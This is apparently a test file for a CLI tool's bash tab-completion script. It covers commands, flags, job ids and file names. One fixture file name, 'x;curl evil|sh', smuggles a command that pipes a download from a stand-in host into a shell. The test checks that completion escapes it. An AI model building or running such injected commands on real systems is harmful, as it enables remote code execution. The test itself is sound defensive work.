// The script for bash, driven in a real bash as readline drives it.
import { expect } from "chai";
import { mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { BINARY } from "../support/cli.ts";
import { givenJob } from "../support/given.ts";
import { runProgram, setScene } from "../support/scene.ts";
import { waitUntil } from "../support/wait-until.ts";

/** What readline cuts words at. */
const BREAKS = ` \t\n"'><=;|&(:`;

describe("TAB in bash", () => {
  const scene = setScene();
  let folder: string;

  before(async () => {
    folder = await mkdtemp(join(tmpdir(), "family-hub-completion-"));
    for (const name of ["family-hub-jobs", "fhj"]) await symlink(BINARY, join(folder, name));
    await writeFile(join(folder, "ring one.json"), "");
    await writeFile(join(folder, "ring-two.json"), "");
    await writeFile(join(folder, "x;curl evil|sh"), "");
  });
  after(() => rm(folder, { recursive: true }));

  /** @returns what the script would have readline insert, for these words as readline cuts them */
  async function tab(
    line: string,
    words: readonly string[],
    { type = "37", breaks = BREAKS, columns = "200" } = {},
  ): Promise<string[]> {
    const script = `
      source <(family-hub-jobs completion bash)
      COMP_LINE=$1 COMP_POINT=\${#1} COMP_TYPE=$2 COMP_WORDBREAKS=$3 COLUMNS=$4
      shift 4; COMP_WORDS=("$@") COMP_CWORD=$(($# - 1))
      _family_hub_jobs "\${COMP_WORDS[0]}" "\${COMP_WORDS[COMP_CWORD]}"
      printf '%s\\n' "\${COMPREPLY[@]}"`;
    const { code, stdout, stderr } = await runProgram(
      "bash",
      ["--norc", "--noprofile", "-c", script, "bash", line, type, breaks, columns, ...words],
      { ...scene.env, PATH: `${folder}:${process.env["PATH"]}` },
      folder,
    );
    expect({ code, stderr }).to.deep.equal({ code: 0, stderr: "" });
    return stdout.split("\n").filter((text) => text !== "");
  }

  it("completes commands, flags and values, for both names of the binary", async () => {
    expect(await tab("fhj qu", ["fhj", "qu"])).to.deep.equal(["queue"]);
    expect(
      await tab("family-hub-jobs queue list --st", ["family-hub-jobs", "queue", "list", "--st"]),
    ).to.deep.equal(["--status", "--stuck"]);
    const words = ["fhj", "queue", "list", "-o", "cs"];
    expect(await tab(words.join(" "), words)).to.deep.equal(["csv"]);
  });

  it("is registered for both names, without the bash-completion package", async () => {
    const { stdout, stderr } = await runProgram(
      "bash",
      [
        "--norc",
        "--noprofile",
        "-c",
        "source <(fhj completion bash); complete -p fhj family-hub-jobs",
      ],
      { PATH: `${folder}:${process.env["PATH"]}` },
    );

    expect(stderr).to.equal("");
    expect(stdout.match(/-F _family_hub_jobs (family-hub-jobs|fhj)/g)).to.have.length(2);
  });

  it("completes ids", async () => {
    const job = await givenJob(scene.db, { status: "failed" });
    await givenJob(scene.db);

    // On a busy machine its second may pass without an answer: then one presses again.
    let ids: string[] = [];
    await waitUntil("TAB has an answer", async () => {
      ids = await tab("fhj queue requeue ", ["fhj", "queue", "requeue", ""]);
      return ids.length > 0;
    });

    expect(ids).to.deep.equal([job.id]);
  });

  it("completes behind =, whether readline cuts there or not", async () => {
    const line = "fhj queue list --status=fa";
    const cut = ["fhj", "queue", "list", "--status", "=", "fa"];
    const whole = ["fhj", "queue", "list", "--status=fa"];

    expect(await tab(line, cut)).to.deep.equal(["failed"]);
    expect(await tab(line, whole, { breaks: " \t\n" })).to.deep.equal(["--status=failed"]);
    expect(await tab("fhj queue list --status=", cut.slice(0, -1))).to.include("failed");
  });

  it("takes a time with colons, and a text in quotes, for one word", async () => {
    const line = `fhj queue list --since 2026-01-31T08:00Z --search "a b" --stat`;
    const words = ["fhj", "queue", "list", "--since", "2026-01-31T08", ":", "00Z"];

    expect(await tab(line, [...words, "--search", '"a b"', "--stat"])).to.deep.equal(["--status"]);
  });

  it("completes files where a flag names one", async () => {
    const words = ["fhj", "keys", "generate", "--from", "ring"];

    const found = await tab(words.join(" "), words);
    const behind = await tab("fhj keys generate --out=ring-", [
      ...["fhj", "keys", "generate", "--out", "=", "ring-"],
    ]);

    expect(found).to.have.members(["ring\\ one.json", "ring-two.json"]);
    expect(behind).to.deep.equal(["ring-two.json"]);
  });

  it("puts no file's name into the line that would end the command and begin another", async () => {
    const words = ["fhj", "keys", "generate", "--from", "x"];

    expect(await tab(words.join(" "), words)).to.deep.equal(["x\\;curl\\ evil\\|sh"]);
  });

  it("says what each is where several are listed, within the width, and never puts that into the line", async () => {
    const words = ["fhj", "queue", "list", "--st"];

    const listed = await tab(words.join(" "), words, { type: "63", columns: "40" });
    const inserted = await tab(words.join(" "), words, { type: "37" });
    const alone = await tab("fhj queue list --stu", [...words.slice(0, 3), "--stu"], { type: "9" });

    expect(listed).to.deep.equal(
      ["--status  (pending, processing, complet", "--stuck   (processing, but the lease h"].map(
        (text) => text.slice(0, 38),
      ),
    );
    expect(inserted).to.deep.equal(["--status", "--stuck"]);
    expect(alone).to.deep.equal(["--stuck"]);
  });

  it("puts a value of two words in as one", async () => {
    const words = ["fhj", "runs", "--command", "keys"];

    expect(await tab(words.join(" "), words)).to.deep.equal(["keys\\ rotate"]);
  });

  it("is silent when the binary is gone", async () => {
    expect(await tab("gone queue ", ["gone", "queue", ""])).to.deep.equal([]);
  });
});
